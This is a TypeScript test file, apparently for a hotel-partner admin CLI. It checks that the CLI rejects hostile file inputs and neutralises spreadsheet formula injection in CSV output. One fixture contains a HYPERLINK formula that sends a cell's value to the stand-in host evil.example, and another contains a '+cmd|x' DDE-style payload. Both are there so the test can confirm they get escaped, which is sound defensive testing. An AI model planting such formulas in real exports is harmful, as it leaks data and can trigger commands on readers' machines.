import { spawn, spawnSync } from 'node:child_process';
import { openSync } from 'node:fs';
import { mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { admin } from '../support/cli';
import type { TestPartner } from '../support/partners';
import { approvedPartner } from '../support/partners';

let directory: string;
let partner: TestPartner;

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'cli-hostile-'));
  partner = await approvedPartner({ products: ['assistant'] });
});

afterAll(async () => {
  await rm(directory, { recursive: true, force: true });
});

const usageMistake = (result: { code: number; stdout: string; stderr: string }, reason: RegExp) => {
  expect(result.code).toBe(2);
  expect(result.stdout).toBe('');
  expect(result.stderr.split('\n')[0]).toMatch(reason);
};

describe('files an operator names, as the attack on the CLI tried them', () => {
  it('refuses a pipe, a folder or a missing file before reading it (a pipe would block forever)', async () => {
    const fifo = join(directory, 'reservations.fifo');
    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);

    usageMistake(
      await admin('reservations', 'import', '--property', '1', '--file', fifo),
      /^Usage error: --file: ".*reservations\.fifo" is not a file\./,
    );
    usageMistake(
      await admin('reservations', 'import', '--property', '1', '--file', join(directory, 'none.json')),
      /^Usage error: --file: there is no file ".*none\.json"\./,
    );
    usageMistake(
      await admin('partners', 'brand', '--partner', partner.slug, '--logo', directory),
      /^Usage error: --logo: ".*" is not a file\. Give the path of a PNG, WebP or SVG file\./,
    );
    usageMistake(
      await admin('partners', 'brand', '--partner', partner.slug, '--logo', fifo),
      /^Usage error: --logo: ".*reservations\.fifo" is not a file\./,
    );
  });

  it('refuses an --out that exists, even as a link to nowhere, or whose folder does not, before minting', async () => {
    const hosts = join(directory, 'hosts-out.csv');
    await writeFile(hosts, 'email,name,pms_hotel_id\nout@host.example,Casa Out,PMS-OUT\n');
    const dangling = join(directory, 'dangling.csv');
    await symlink(join(directory, 'nowhere', 'target.csv'), dangling);
    const create = (out: string) =>
      admin(
        'links',
        'create',
        '--partner',
        partner.slug,
        '--products',
        'assistant',
        '--file',
        hosts,
        '--out',
        out,
      );

    usageMistake(await create(dangling), /^Usage error: --out ".*dangling\.csv" exists: name a new file/);
    usageMistake(
      await create(join(directory, 'no-such-folder', 'links.csv')),
      /^Usage error: --out: there is no folder ".*no-such-folder" to write into\./,
    );
    const listed = await admin('links', 'list', '--partner', partner.slug, '--json');
    expect(JSON.parse(listed.stdout).links).toEqual([]);
  });

  it('refuses a hosts file or a reservations file that is not UTF-8, rather than minting a name with U+FFFD', async () => {
    const hosts = join(directory, 'latin1.csv');
    await writeFile(
      hosts,
      Buffer.concat([Buffer.from('email,name,pms_hotel_id\nu@host.example,Caf'), Buffer.from([0xe9, 0x28])]),
    );
    usageMistake(
      await admin('links', 'create', '--partner', partner.slug, '--products', 'assistant', '--file', hosts),
      /^Usage error: Nothing was minted: --file ".*latin1\.csv" is not UTF-8 text/,
    );

    const reservations = join(directory, 'latin1.json');
    await writeFile(
      reservations,
      Buffer.concat([Buffer.from('[{"id":"r'), Buffer.from([0xc3, 0x28]), Buffer.from('"}]')]),
    );
    const imported = await admin('reservations', 'import', '--property', '1', '--file', reservations);
    expect(imported.code).toBe(1);
    expect(imported.stderr).toMatch(/^Error: .*latin1\.json is not UTF-8 text/);
  });

  it('writes names a spreadsheet would run as formulas with a leading apostrophe, and links exactly', async () => {
    const hosts = join(directory, 'formulas.csv');
    await writeFile(
      hosts,
      'email,name,pms_hotel_id\n' +
        'f1@host.example,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",PMS-F1\n' +
        'f2@host.example,+cmd|x,PMS-F2\n' +
        'f3@host.example,Casa Normal,-PMS-F3\n',
    );
    const out = join(directory, 'formulas-links.csv');

    const result = await admin(
      'links',
      'create',
      '--partner',
      partner.slug,
      '--products',
      'assistant',
      '--file',
      hosts,
      '--out',
      out,
    );

    expect(result.code).toBe(0);
    const rows = (await readFile(out, 'utf8')).trimEnd().split('\n');
    expect(rows[1]).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(rows[2]).toContain(",'+cmd|x,");
    expect(rows[3]).toContain(",Casa Normal,'-PMS-F3,");
    for (const row of rows.slice(1)) expect(row).toMatch(/,http:\/\/[^,']+\/activate\?token=[^,]+,/);
  });

  it('says in one line, without a stack, when its output cannot be written, and exits 1', async () => {
    const { code, stderr } = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
      const child = spawn(process.execPath, ['--import', 'tsx', 'bin/admin.ts', 'partners', 'list'], {
        stdio: ['ignore', openSync('/dev/full', 'w'), 'pipe'],
      });
      let text = '';
      child.stderr?.on('data', (chunk) => {
        text += chunk;
      });
      child.on('close', (exit) => resolve({ code: exit, stderr: text }));
    });

    expect(code).toBe(1);
    expect(stderr.trim()).toBe(
      'Error: the output could not be written (ENOSPC). What the command did is done; a list command shows it.',
    );
  });

  it('takes a number only as digits: leading spaces are a usage mistake', async () => {
    usageMistake(
      await admin('keys', 'rotate', '--partner', partner.slug, '--grace-hours', ' 5'),
      /^Usage error: --grace-hours must be an integer from 0 to 720; got " 5"\./,
    );
  });
});
